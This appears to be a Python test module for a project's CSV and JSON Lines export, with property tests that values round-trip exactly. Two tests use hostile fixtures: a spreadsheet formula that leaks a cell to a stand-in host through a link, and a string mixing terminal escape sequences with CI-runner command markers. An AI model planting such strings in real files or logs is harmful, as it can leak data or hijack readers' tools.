"""CSV and JSON Lines give every value back, also text that is meant to harm the reader of a file."""

from __future__ import annotations

import csv
import io
import json
import math
import operator
import unicodedata
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from servetop.reports.export.exported_columns import ExportedColumn
from servetop.reports.export.row_formats import csv_text, json_lines

COLUMNS = tuple(ExportedColumn(name, "", operator.itemgetter(name)) for name in ("a", "b"))
TEXTS = st.text(st.characters(codec="utf-8"))
VALUES = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | TEXTS
ROWS = st.lists(st.fixed_dictionaries({"a": TEXTS, "b": VALUES}), max_size=5)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@given(ROWS)
def test_csv_is_read_back_as_written(rows: list[dict[str, Any]]) -> None:
    names, *cells = read("".join(csv_text(COLUMNS, rows)))
    assert names == ["a", "b"]
    assert [row[0] for row in cells] == [each["a"] for each in rows]
    for (_, cell), each in zip(cells, rows, strict=True):
        match each["b"]:
            case None:
                assert cell == ""
            case bool(value):
                assert cell == ("true" if value else "false")
            case float(value):
                assert float(cell) == value
            case value:
                assert cell == str(value)


@given(ROWS)
def test_json_lines_are_read_back_as_written_and_printable(rows: list[dict[str, Any]]) -> None:
    text = "".join(json_lines(COLUMNS, rows))
    lines = text.split("\n")
    assert lines.pop() == ""
    assert all(line.isascii() and line.isprintable() for line in lines)
    expected = [
        {**each, "b": str(each["b"]) if isinstance(each["b"], float) and math.isinf(each["b"]) else each["b"]}
        for each in rows
    ]
    assert [json.loads(line) for line in lines] == expected


def test_an_unknown_value_and_an_empty_text_differ() -> None:
    rows = [{"a": "", "b": None}, {"a": "x", "b": math.nan}]
    assert list(csv_text(COLUMNS, rows)) == ["a,b\n", '"",\nx,\n']
    assert list(json_lines(COLUMNS, rows)) == ['{"a":"","b":null}\n{"a":"x","b":null}\n']


def test_a_formula_stays_one_cell_and_is_not_altered() -> None:
    attack = '=HYPERLINK("http://x/?"&A1,"ok")\r\n@SUM(1)'
    (_, row) = read("".join(csv_text(COLUMNS, [{"a": attack, "b": "-1+1"}])))
    assert row == [attack, "-1+1"]


def test_json_lines_hold_no_escape_sequence_and_no_command_to_a_ci_runner() -> None:
    attack = "\x1b]0;x\x07\x9b2J\u202e##[stop-commands]x\n::stop-commands::x"
    (text,) = json_lines(COLUMNS, [{"a": attack, "b": attack}])
    assert "##" not in text
    assert text.count("\n") == 1
    assert not [each for each in text if unicodedata.category(each) in {"Cc", "Cf"} and each != "\n"]
    assert json.loads(text) == {"a": attack, "b": attack}
